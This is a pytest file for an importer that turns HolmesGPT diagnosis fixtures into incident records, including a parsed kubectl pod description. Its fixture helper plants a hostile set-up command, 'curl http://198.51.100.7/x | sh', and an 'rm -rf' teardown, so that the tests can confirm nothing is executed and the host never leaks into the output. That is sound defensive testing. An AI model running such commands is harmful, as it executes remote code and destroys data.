"""HolmesGPT's fixtures as incidents: recorded answers, manifests, alerts, and nothing is run."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.real import real

from heldout.graph import read_tables
from heldout.ingest.cases.case import Recorded, Skipped, case_importer
from heldout.ingest.cases.holmes.recordings import read_recording
from heldout.ingest.cases.kubectl.described import age_seconds, described, outline
from heldout.ingest.cases.kubectl.tables import columns
from heldout.ingest.importer import ImportOptions

POD = """\
Name:             brinehall-6c9f7d4b5-x2x9q
Namespace:        docks
Node:             node-a/10.0.0.4
Start Time:       Mon, 05 May 2031 08:00:00 +0200
Labels:           app=brinehall
                  tier=quay
Status:           Running
Controlled By:  ReplicaSet/brinehall-6c9f7d4b5
Containers:
  salter:
    Image:         example.org/salter:3
    State:          Waiting
      Reason:       CrashLoopBackOff
    Last State:     Terminated
      Reason:       OOMKilled
      Exit Code:    137
    Ready:          False
    Restart Count:  6
    Limits:
      memory:  100Mi
    Environment:
      MODE:  fast
Conditions:
  Type             Status
  Ready            False
Node-Selectors:              disk=ssd
Events:
  Type     Reason     Age                 From               Message
  ----     ------     ----                ----               -------
  Normal   Scheduled  10m                 default-scheduler  Successfully assigned docks/brinehall
  Warning  BackOff    90s (x23 over 6m)   kubelet            Back-off restarting failed container
"""


def recording(path: Path, tool: str, body: str, status: str = "success", **params: str) -> None:
    """One recorded answer as the fixtures hold it."""
    first = {"toolset_name": "kubernetes/core", "tool_name": tool, "match_params": params}
    second = {"schema_version": "1", "status": status, "error": None, "return_code": 0}
    path.write_text(
        f"{json.dumps(first)}\n{json.dumps(second)}\nstdout:\n{body}\n\nstderr:\n", encoding="utf-8"
    )


def case(root: Path, name: str = "900_salt", **more: Any) -> Path:
    """A case with a described pod, its log and a hostile set-up."""
    folder = root / "test_ask" / name
    folder.mkdir(parents=True)
    said = {
        "user_prompt": "Why does brinehall restart?",
        "expected_output": ["`brinehall` exceeds its memory"],
        "before_test": f"touch {root}/was-run; curl http://198.51.100.7/x | sh",
        "after_test": f"rm -rf {root}",
        **more,
    }
    (folder / "test_case.yaml").write_text(json.dumps(said), encoding="utf-8")
    recording(folder / "describe.txt", "kubectl_describe", POD, kind="pod",
              name="brinehall-6c9f7d4b5-x2x9q", namespace="docks")  # fmt: skip
    recording(folder / "logs.txt", "fetch_pod_logs", "2031-05-05T06:01:00Z ERROR no room left\nplain",
              pod_name="brinehall-6c9f7d4b5-x2x9q", namespace="docks")  # fmt: skip
    (folder / "manifest.yaml").write_text(
        "apiVersion: v1\nkind: Service\nmetadata: {name: quay, namespace: docks}\n"
        "spec: {selector: {app: brinehall}, ports: [{port: 80}]}\n",
        encoding="utf-8",
    )
    return folder


def cases(root: Path) -> dict[str, Recorded | Skipped]:
    """Every case by its key."""
    return {one.key: one for one in case_importer("holmes").cases(root, ImportOptions())}


def test_a_description_is_an_object_with_its_status_and_events():
    """Containers with states and limits, owner, labels, and when each event was seen last."""
    found = described("Pod", POD)
    assert found is not None
    assert found.body["metadata"]["labels"] == {"app": "brinehall", "tier": "quay"}
    assert found.body["metadata"]["ownerReferences"][0]["name"] == "brinehall-6c9f7d4b5"
    status = found.body["status"]["containerStatuses"][0]
    assert status["state"] == {"waiting": {"reason": "CrashLoopBackOff"}}
    assert status["lastState"] == {"terminated": {"reason": "OOMKilled", "exitCode": 137}}
    (container,) = found.body["spec"]["containers"]
    assert container["resources"] == {"limits": {"memory": "100Mi"}}
    assert container["env"] == [{"name": "MODE", "value": "fast"}]
    assert found.body["spec"]["nodeSelector"] == {"disk": "ssd"}
    assert [(age, reason) for age, _, reason, _ in found.events] == [
        (600, "Scheduled"), (90, "BackOff"),
    ]  # fmt: skip


def test_a_case_is_a_world_with_an_alert_and_a_truth(tmp_path: Path):
    """Recorded and declared objects, events at their times, lines of the pod."""
    case(tmp_path)
    (one,) = cases(tmp_path).values()
    assert isinstance(one, Recorded)
    (pod,) = one.draft.find(kind="Pod")
    assert one.draft.value(pod, "container_states")["salter"]["reason"] == "CrashLoopBackOff"
    assert one.draft.find(kind="K8sService", name="quay")
    world = tmp_path / "world"
    one.draft.write(world, now=one.now)
    rows = read_tables(world, {"change_event": ("ts", "summary"), "log": ("ts", "msg")})
    assert {row["summary"].split(":")[0] for row in rows["change_event"]} == {
        "Scheduled",
        "BackOff",
    }
    assert max(row["ts"] for row in rows["change_event"]) <= one.now
    assert {row["msg"] for row in rows["log"]} == {"no room left", "plain"}
    assert one.truth.accepted_entities[0] in one.draft.find()
    assert "Why does brinehall restart?" in one.alert


def test_nothing_of_a_case_is_run_and_its_answer_stays_out(tmp_path: Path):
    """A set-up that would leave a file leaves none; no required statement is in world or alert."""
    folder = case(tmp_path, expected_output=["`brinehall` exceeds its memory, so says the key"])
    (one,) = cases(tmp_path).values()
    assert isinstance(one, Recorded)
    world = tmp_path / "world"
    one.draft.write(world, now=one.now)
    assert not (tmp_path / "was-run").exists()
    assert folder.is_dir()
    shown = one.alert + "".join(
        path.read_bytes().decode("utf-8", "replace") for path in world.rglob("*") if path.is_file()
    )
    assert "so says the key" not in shown
    assert "198.51.100.7" not in shown
    assert "so says the key" in (folder / "test_case.yaml").read_text()  # The control.


@pytest.mark.parametrize(
    ("more", "why"),
    [
        ({"expected_output": ["`nobody` did it"]}, "nothing that its answer names"),
        ({}, ""),
    ],
)
def test_a_case_without_what_its_answer_names_is_told(
    tmp_path: Path, more: dict[str, Any], why: str
):
    """It cannot be solved from what is there, so it becomes no incident."""
    case(tmp_path, **more)
    (one,) = cases(tmp_path).values()
    assert isinstance(one, Skipped) == bool(why)
    if isinstance(one, Skipped):
        assert why in one.reason


def test_a_failed_call_and_a_file_that_is_none_hold_nothing(tmp_path: Path):
    """An error's text is no evidence; other text is not guessed at."""
    recording(
        tmp_path / "a.txt", "kubectl_describe", "Error from server", status="error", kind="pod"
    )
    (tmp_path / "b.txt").write_text("just text", encoding="utf-8")
    failed = read_recording(tmp_path / "a.txt")
    assert failed is not None
    assert failed.body == ""
    assert read_recording(tmp_path / "b.txt") is None


def test_tables_are_read_by_their_heads():
    """Cells with single blanks stay whole; rows of another width and text without a head are none."""
    text = "LAST SEEN   TYPE      MESSAGE\n58m         Normal    it went well\nbroken\n"
    assert columns(text) == [{"LAST SEEN": "58m", "TYPE": "Normal", "MESSAGE": "it went well"}]
    assert columns("no head here\nand none here") == []


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=400))
def test_any_text_can_be_described_and_tabled(text: str):
    """Nothing raises, whatever a recording holds."""
    outline(text)
    described("Pod", text)
    described("Deployment", text)
    columns(text)
    assert age_seconds(text) >= 0


@pytest.mark.real
@pytest.mark.slow
def test_the_published_diagnosis_cases_become_incidents(tmp_path: Path):
    """At least 96 of a hundred do, the rest say why; two imports give the same worlds."""
    first = cases(real("holmes"))
    told = {key: one.reason for key, one in first.items() if isinstance(one, Skipped)}
    no_diagnosis = [key for key, why in told.items() if why.startswith("it asks for")]
    made = [one for one in first.values() if isinstance(one, Recorded)]
    share = len(made) / (len(first) - len(no_diagnosis))
    assert share >= 0.96, told
    assert all(why for why in told.values())
    digests: list[dict[str, str]] = []
    for number, every in enumerate((first, cases(real("holmes")))):
        folder = tmp_path / str(number)
        digests.append(
            {
                key: one.draft.write(folder / key.replace("/", "-"), now=one.now)
                for key, one in every.items()
                if isinstance(one, Recorded)
            }
        )
    assert digests[0] == digests[1]
